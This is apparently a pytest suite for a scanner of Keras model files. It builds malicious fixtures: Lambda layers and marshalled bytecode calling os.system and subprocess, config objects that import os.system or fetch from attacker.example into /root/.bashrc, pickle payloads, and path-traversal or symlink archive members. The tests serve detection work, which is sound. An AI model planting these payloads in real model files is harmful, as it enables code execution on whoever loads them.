"""Keras models (.keras zips and .h5 files), made with Keras 3 and scanned without it.

Fixtures are real files saved by Keras at test time (saving serializes, it runs nothing);
malicious variants are Keras's own output edited the way a public proof of concept edits
it. No test ever loads a model.
"""

from __future__ import annotations

import base64
import json
import marshal
import shutil
from pathlib import Path

import h5py
import pytest

from modelscan_core import scan_path
from modelscan_core.model import Severity

from .tf_helpers import CRITICAL, HIGH, MEDIUM, LazyModule, by_rule, first_layer_dict, rewrite_keras, scan_in_subprocess

#: imported on first use: the tests that use it build real models and are slow (conftest.py)
keras = LazyModule("keras")


@pytest.fixture(scope="module")
def models(tmp_path_factory) -> dict[str, Path]:
    out = tmp_path_factory.mktemp("keras")
    layers = keras.layers
    made: dict[str, Path] = {}

    benign = keras.Sequential([keras.Input((4,)), layers.Dense(8, activation="relu"), layers.Dense(2)])
    benign.compile(optimizer="adam", loss="mse", metrics=["mae"])
    for ext in ("keras", "h5"):
        made[f"benign.{ext}"] = out / f"benign.{ext}"
        benign.save(made[f"benign.{ext}"])

    # a bigger benign functional model with wrappers and a shared layer
    shared = layers.Dense(4, name="shared")
    a, b = keras.Input((3, 4)), keras.Input((3, 4))
    x = layers.Add()([shared(a), shared(b)])
    x = layers.TimeDistributed(layers.Dense(4))(x)
    x = layers.Bidirectional(layers.LSTM(2))(x)
    wrapped = keras.Model([a, b], x)
    wrapped.compile(optimizer="sgd", loss="mae")
    made["wrappers.keras"] = out / "wrappers.keras"
    wrapped.save(made["wrappers.keras"])

    # Lambda layers at three depths: top level, inside a Sequential inside TimeDistributed,
    # and inside a Sequential nested in a Sequential inside Bidirectional's sibling model
    deepest = keras.Sequential([keras.Input((4,)), layers.Lambda(lambda t: t * 3, name="deepest_lambda")], name="deepest")
    inner = keras.Sequential([keras.Input((4,)), layers.Lambda(lambda t: t * 2, name="deep_lambda"), deepest], name="inner")
    inp = keras.Input((3, 4))
    y = layers.TimeDistributed(inner)(inp)
    y = layers.Bidirectional(layers.LSTM(2))(y)
    y = layers.Lambda(lambda t: t + 1, name="top_lambda")(y)
    lam = keras.Model(inp, y)
    for ext in ("keras", "h5"):
        made[f"lambda.{ext}"] = out / f"lambda.{ext}"
        lam.save(made[f"lambda.{ext}"])

    evil = keras.Sequential([keras.Input((4,)), layers.Lambda(lambda t: __import__("os").system("id") or t, name="evil")])
    for ext in ("keras", "h5"):
        made[f"evil_lambda.{ext}"] = out / f"evil_lambda.{ext}"
        evil.save(made[f"evil_lambda.{ext}"])
    return made


def _rules(path: Path) -> dict[str, list]:
    out: dict[str, list] = {}
    for f in scan_path(path).findings():
        out.setdefault(f.rule_id, []).append(f)
    return out


# -- benign -----------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["benign.keras", "benign.h5", "wrappers.keras"])
def test_real_benign_keras_models_are_clean(models, name):
    report = scan_path(models[name])
    assert report.exit_code == 0, report.findings() or report.all_errors()
    assert [r.verdict.value for r in report.files] == ["clean"]
    assert report.files[0].format == ("keras_v3" if name.endswith(".keras") else "keras_h5")


def test_benign_keras_weights_file_is_data(models, tmp_path):
    model = keras.Sequential([keras.Input((2,)), keras.layers.Dense(1)])
    path = tmp_path / "model.weights.h5"
    model.save_weights(path)
    report = scan_path(path)
    assert report.exit_code == 0 and report.files[0].format == "keras_h5"


# -- Lambda at every depth ----------------------------------------------------------------


@pytest.mark.parametrize("ext", ["keras", "h5"])
def test_lambda_layers_are_reported_at_every_depth_with_their_path(models, ext):
    report = scan_path(models[f"lambda.{ext}"])
    lambdas = [f for f in report.findings() if f.operator == "Lambda"]
    assert report.exit_code == 1
    text = "\n".join(f.description for f in lambdas)
    assert len(lambdas) == 3, text
    assert {f.severity for f in lambdas} == {MEDIUM}  # modelscan's unsafe_keras_operators default
    assert all(f.source == f"lambda.{ext}" and f.rule_id == "keras/lambda" for f in lambdas)
    assert "'top_lambda'" in text and "'deep_lambda'" in text and "'deepest_lambda'" in text
    deepest = next(f for f in lambdas if "deepest_lambda" in f.description)
    assert "model/layers[1]/layer/layers[2]/layers[1]" in deepest.description
    assert "sha256" in deepest.description and "bytes of marshalled bytecode" in deepest.description


@pytest.mark.parametrize("ext", ["keras", "h5"])
def test_lambda_whose_bytecode_names_os_system_is_critical(models, ext):
    found = scan_path(models[f"evil_lambda.{ext}"]).findings()
    assert [(f.rule_id, f.severity) for f in found] == [("keras/lambda-dangerous", CRITICAL)]
    assert "system" in found[0].description and "__import__" in found[0].description


def test_lambda_bytecode_is_never_unmarshalled(models, monkeypatch):
    def refuse(*args, **kwargs):
        raise AssertionError("marshal.loads called on untrusted bytecode")

    monkeypatch.setattr(marshal, "loads", refuse)
    assert scan_path(models["lambda.h5"]).exit_code == 1


def test_lambda_severity_comes_from_settings(models):
    from modelscan_core.settings import Settings

    settings = Settings.from_dict({"scanners": {"modelscan.scanners.KerasLambdaDetectScan": {"unsafe_keras_operators": {"Lambda": "HIGH"}}}})
    found = scan_path(models["lambda.keras"], settings).findings()
    assert {f.severity for f in found} == {HIGH}


# -- legacy tf.keras 2.x .h5 ---------------------------------------------------------------


def _legacy_lambda_config(code: str, nested: bool) -> dict:
    lam = {
        "class_name": "Lambda",
        "config": {"name": "legacy_lambda", "trainable": True, "dtype": "float32", "function": [code, None, None],
                   "function_type": "lambda", "module": "__main__", "output_shape": None, "output_shape_type": "raw",
                   "output_shape_module": None, "arguments": {}},
    }
    dense = {"class_name": "Dense", "config": {"name": "dense", "units": 2, "activation": "relu"}}
    layers = [{"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "input_1"}}, dense]
    if nested:
        layers.append({"class_name": "TimeDistributed", "config": {"name": "td", "layer": {"class_name": "Sequential", "config": {"name": "inner", "layers": [lam]}}}})
    else:
        layers.append(lam)
    return {"class_name": "Sequential", "config": {"name": "sequential", "layers": layers}}


@pytest.mark.parametrize("as_bytes", [False, True])
def test_legacy_tf_keras_h5_layout_built_with_h5py(tmp_path, as_bytes):
    """tf.keras 2.x's HDF5 layout (root attrs model_config/training_config/keras_version,
    model_weights/ group); older versions stored the attributes as bytes."""
    code = base64.b64encode(marshal.dumps(compile("lambda x: __import__('subprocess').check_output(['id'])", "<lambda>", "eval"))).decode()
    path = tmp_path / "legacy.h5"
    with h5py.File(path, "w") as f:
        config = json.dumps(_legacy_lambda_config(code, nested=True))
        training = json.dumps({"loss": "mse", "optimizer_config": {"class_name": "Adam", "config": {"learning_rate": 0.001}}})
        f.attrs["model_config"] = config.encode() if as_bytes else config
        f.attrs["training_config"] = training.encode() if as_bytes else training
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"
        f.create_group("model_weights").create_dataset("dense/kernel", data=[[0.0, 1.0]] * 4)
    found = scan_path(path).findings()
    assert [(f.rule_id, f.severity) for f in found] == [("keras/lambda-dangerous", CRITICAL)]
    assert "model/layers[2]/layer/layers[0]" in found[0].description
    assert "subprocess" in found[0].description


@pytest.mark.slow
def test_legacy_tf_keras_h5_saved_by_tf_keras(tmp_path):
    tf_keras = pytest.importorskip("tf_keras")
    inner = tf_keras.Sequential([tf_keras.layers.Lambda(lambda x: x * 2, name="deep_lambda", input_shape=(4,))], name="inner")
    inp = tf_keras.Input((3, 4))
    model = tf_keras.Model(inp, tf_keras.layers.TimeDistributed(inner)(inp))
    path = tmp_path / "tfk.h5"
    model.save(path)
    found = scan_path(path).findings()
    assert [(f.rule_id, f.severity) for f in found] == [("keras/lambda", MEDIUM)]
    assert "model/layers[1]/layer/layers[1] (Lambda 'deep_lambda')" in found[0].description
    benign = tf_keras.Sequential([tf_keras.layers.Dense(2, input_shape=(3,))])
    benign.compile(optimizer="adam", loss="mse")
    benign.save(tmp_path / "tfk_benign.h5")
    assert scan_path(tmp_path / "tfk_benign.h5").exit_code == 0


# -- .keras config.json: import-and-call primitives (CVE-2025-1550 and later) -------------


def _replace_initializer(obj: dict):
    def mutate(config):
        dense = first_layer_dict(config, "Dense")
        dense["config"]["kernel_initializer"] = obj
        return config

    return mutate


@pytest.mark.parametrize(
    "obj, rule, severity, module",
    [
        ({"module": "os", "class_name": "system", "config": {"command": "id"}, "registered_name": None}, "keras/foreign-module", CRITICAL, "os"),
        ({"module": "subprocess", "class_name": "function", "config": "getoutput", "registered_name": "function"}, "keras/foreign-module", CRITICAL, "subprocess"),
        ({"module": "evil_pkg.layers", "class_name": "Payload", "config": {}, "registered_name": "evil>Payload"}, "keras/foreign-module", MEDIUM, "evil_pkg.layers"),
        ({"module": "keras.utils", "class_name": "get_file", "config": {"origin": "https://attacker.example/x", "fname": "/root/.bashrc"}, "registered_name": None}, "keras/non-modeling-api", HIGH, "Keras"),
        ({"module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {}, "registered_name": None}, "keras/non-modeling-api", CRITICAL, "Keras"),
    ],
)
def test_config_objects_outside_keras_or_non_modeling_apis_are_reported(models, tmp_path, obj, rule, severity, module):
    path = rewrite_keras(models["benign.keras"], tmp_path / "poc.keras", _replace_initializer(obj))
    report = scan_path(path)
    assert report.exit_code == 1
    hits = by_rule(report.findings(), rule)
    assert len(hits) == 1 and hits[0].severity == severity and hits[0].module == module, report.findings()
    assert "model/layers[2]/kernel_initializer" in hits[0].description and hits[0].source == "poc.keras"


def test_keras_builtin_function_names_are_not_foreign(models, tmp_path):
    obj = {"module": "builtins", "class_name": "function", "config": "relu", "registered_name": "function"}
    mutate = lambda c: (first_layer_dict(c, "Dense")["config"].__setitem__("activation", obj), c)[1]  # noqa: E731
    assert scan_path(rewrite_keras(models["benign.keras"], tmp_path / "ok.keras", mutate)).exit_code == 0


def test_layers_that_load_code_or_files_even_in_safe_mode(models, tmp_path):
    evil_pickle = b"cposix\nsystem\n(S'id'\ntR."

    def mutate(config):
        layers = config["config"]["layers"]
        layers.append({"module": "keras.layers", "class_name": "TorchModuleWrapper", "registered_name": None,
                       "config": {"name": "torch_wrapper", "module": base64.b64encode(evil_pickle).decode()}})
        layers.append({"module": "keras.layers", "class_name": "TFSMLayer", "registered_name": None,
                       "config": {"name": "tfsm", "filepath": "/tmp/attacker_savedmodel", "call_endpoint": "serve"}})
        layers.append({"module": "keras.layers", "class_name": "StringLookup", "registered_name": None,
                       "config": {"name": "lookup", "vocabulary": "https://attacker.example/vocab.txt"}})
        layers.append({"module": "keras.layers", "class_name": "IntegerLookup", "registered_name": None,
                       "config": {"name": "lookup2", "vocabulary": "/etc/passwd"}})
        return config

    report = scan_path(rewrite_keras(models["benign.keras"], tmp_path / "loaders.keras", mutate))
    got = {(f.rule_id, f.severity) for f in report.findings()}
    assert ("keras/torch-module", HIGH) in got
    assert ("keras/tfsm-layer", HIGH) in got
    vocab = [f for f in report.findings() if f.rule_id == "keras/vocabulary-file"]
    assert sorted(f.operator for f in vocab) == ["IntegerLookup", "StringLookup"]  # a file and a URL
    assert all(f.severity == HIGH for f in vocab)
    # the torch.save payload itself went through the pickle scanner
    inner = [f for f in report.findings() if f.severity == CRITICAL]
    assert inner and inner[0].module in ("posix", "os") and inner[0].source.startswith("loaders.keras:")


def test_extra_members_of_a_keras_zip_are_scanned(models, tmp_path):
    path = rewrite_keras(models["benign.keras"], tmp_path / "smuggle.keras", None, {"assets/payload.bin": b"cos\nsystem\n(S'id'\ntR."})
    found = scan_path(path).findings()
    assert any(f.severity == CRITICAL and f.source == "smuggle.keras:assets/payload.bin" for f in found)


def test_keras_zip_is_recognised_by_content_under_another_name(models, tmp_path):
    path = tmp_path / "blob"
    shutil.copy(models["lambda.keras"], path)
    report = scan_path(path)
    assert report.files[0].format == "keras_v3" and report.exit_code == 1


# -- never clean when unreadable -------------------------------------------------------


@pytest.mark.parametrize("name", ["benign.keras", "benign.h5", "lambda.h5"])
def test_truncated_files_are_errors_not_clean(models, tmp_path, name):
    data = models[name].read_bytes()
    path = tmp_path / name
    path.write_bytes(data[: len(data) // 2])
    report = scan_path(path)
    assert report.files[0].verdict.value in ("error", "issues") and report.exit_code != 0
    assert report.files[0].verdict.value == "error" or report.findings()


def test_config_json_that_is_not_json_is_an_error(models, tmp_path):
    path = tmp_path / "bad.keras"
    with __import__("zipfile").ZipFile(path, "w") as z:
        z.writestr("metadata.json", "{}")
        z.writestr("config.json", "{not json")
    report = scan_path(path)
    assert report.exit_code == 2 and report.all_errors()[0].category == "JSON_DECODE"


def test_h5_model_config_that_is_not_json_is_an_error(tmp_path):
    path = tmp_path / "bad.h5"
    with h5py.File(path, "w") as f:
        f.attrs["model_config"] = "{truncated"
    assert scan_path(path).exit_code == 2


# -- no TensorFlow at scan time ------------------------------------------------------------


def test_scanning_keras_files_imports_neither_tensorflow_nor_keras(models):
    paths = [models["lambda.keras"], models["lambda.h5"], models["benign.keras"]]
    out = scan_in_subprocess(paths)
    assert out["modules"] == []
    assert [v for v in out["verdicts"].values()] == [["issues"], ["issues"], ["clean"]]


def test_keras_severities_are_modelscan_compatible_enum(models):
    assert all(isinstance(f.severity, Severity) for f in scan_path(models["lambda.keras"]).findings())


@pytest.mark.parametrize("evil_first", [True, False])
def test_duplicated_config_json_every_copy_is_walked(models, tmp_path, evil_first):
    import warnings
    import zipfile

    with zipfile.ZipFile(models["lambda.keras"]) as z:
        evil = z.read("config.json")
    with zipfile.ZipFile(models["benign.keras"]) as z:
        benign = z.read("config.json")
        weights = z.read("model.weights.h5")
    path = tmp_path / "dup.keras"
    with warnings.catch_warnings(), zipfile.ZipFile(path, "w") as z:
        warnings.simplefilter("ignore")
        z.writestr("metadata.json", '{"keras_version": "3.15.1"}')
        for data in ((evil, benign) if evil_first else (benign, evil)):
            z.writestr("config.json", data)
        z.writestr("model.weights.h5", weights)
    found = [f for f in scan_path(path).findings() if f.operator == "Lambda"]
    assert len(found) == 3 and all(("copy 1 of 2" if evil_first else "copy 2 of 2") in f.description for f in found)


# -- names that are paths, custom-object lookups, archive members ---------------------------------


def test_registered_name_outside_keras_packages_is_high(models, tmp_path):
    def mutate(config):
        layer = first_layer_dict(config, "Dense")
        layer["registered_name"] = "mylib>Backdoor"
        layer["module"] = None
        return config

    found = by_rule(scan_path(rewrite_keras(models["benign.keras"], tmp_path / "reg.keras", mutate)).findings(), "keras/registered-name")
    assert [(f.severity, f.operator) for f in found] == [(HIGH, "mylib>Backdoor")]


def test_registered_name_of_keras_hub_is_clean(models, tmp_path):
    mutate = lambda c: (first_layer_dict(c, "Dense").__setitem__("registered_name", "keras_hub>GemmaBackbone"), c)[1]  # noqa: E731
    assert scan_path(rewrite_keras(models["benign.keras"], tmp_path / "hub.keras", mutate)).exit_code == 0


@pytest.mark.parametrize("name", ["../../../../tmp/escape", "/etc/cron.d/x", "assets/../../x"])
def test_layer_names_that_escape_as_paths_are_high(models, tmp_path, name):
    mutate = lambda c: (first_layer_dict(c, "Dense")["config"].__setitem__("name", name), c)[1]  # noqa: E731
    found = by_rule(scan_path(rewrite_keras(models["benign.keras"], tmp_path / "n.keras", mutate)).findings(), "keras/path-name")
    assert [f.severity for f in found] == [HIGH]


@pytest.mark.parametrize("member", ["assets/../../../home/user/.bashrc", "/tmp/modelscand-abs", "assets/../../x.txt"])
def test_keras_zip_members_that_escape_are_high(models, tmp_path, member):
    import warnings
    import zipfile

    path = tmp_path / "m.keras"
    shutil.copy(models["benign.keras"], path)
    with warnings.catch_warnings(), zipfile.ZipFile(path, "a") as z:
        warnings.simplefilter("ignore")
        z.writestr(member, b"payload")
    found = by_rule(scan_path(path).findings(), "keras/member-path")
    assert [(f.severity, f.operator) for f in found] == [(HIGH, member)]


def test_keras_zip_symlink_member_is_high(models, tmp_path):
    import zipfile

    path = tmp_path / "m.keras"
    shutil.copy(models["benign.keras"], path)
    info = zipfile.ZipInfo("assets/vocab.txt")
    info.external_attr = (0o120777 << 16)
    with zipfile.ZipFile(path, "a") as z:
        z.writestr(info, "/etc/passwd")
    found = by_rule(scan_path(path).findings(), "keras/member-path")
    assert [f.severity for f in found] == [HIGH] and "symbolic link" in found[0].description


def test_keras_model_in_a_tar_with_escaping_members(models, tmp_path):
    import io
    import tarfile

    path = tmp_path / "model.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        tar.add(models["benign.keras"], arcname="model/benign.keras")
        for name, kind, target in (("model/../../escape.txt", tarfile.REGTYPE, ""), ("model/link", tarfile.SYMTYPE, "../../../etc"),
                                   ("model/hard", tarfile.LNKTYPE, "/etc/passwd")):
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, target
            tar.addfile(info, io.BytesIO(b"") if kind == tarfile.REGTYPE else None)
    report = scan_path(path)
    found = by_rule(report.findings(), "archive/path-escape")
    assert sorted(f.operator for f in found) == ["model/../../escape.txt", "model/hard", "model/link"]
    assert all(f.severity == HIGH for f in found)
    safe = tmp_path / "safe.tar"
    with tarfile.open(safe, "w") as tar:
        tar.add(models["benign.keras"], arcname="model/benign.keras")
        info = tarfile.TarInfo("model/alias.keras")
        info.type, info.linkname = tarfile.SYMTYPE, "benign.keras"
        tar.addfile(info)
    assert scan_path(safe).exit_code == 0


def test_npz_weights_are_scanned_because_older_keras_loads_them_with_pickles_allowed(models, tmp_path):
    """Keras 3 before the fix read `model.weights.npz` with `np.load(allow_pickle=True)`: an object
    array there is a pickle the loader runs."""
    import io
    import struct

    import numpy as np

    from .containers_util import payload

    buf = io.BytesIO()
    np.save(buf, np.array([1, "x"], dtype=object), allow_pickle=True)
    raw = buf.getvalue()
    npy = raw[: 10 + struct.unpack("<H", raw[8:10])[0]] + payload(2)
    weights = io.BytesIO()
    with __import__("zipfile").ZipFile(weights, "w") as z:
        z.writestr("layers/dense/vars/0.npy", npy)
    path = tmp_path / "npz.keras"
    with __import__("zipfile").ZipFile(models["benign.keras"]) as zin, __import__("zipfile").ZipFile(path, "w") as zout:
        for info in zin.infolist():
            if info.filename != "model.weights.h5":
                zout.writestr(info.filename, zin.read(info))
        zout.writestr("model.weights.npz", weights.getvalue())
    found = scan_path(path).findings()
    assert any(f.severity == CRITICAL and "model.weights.npz" in f.source for f in found), found
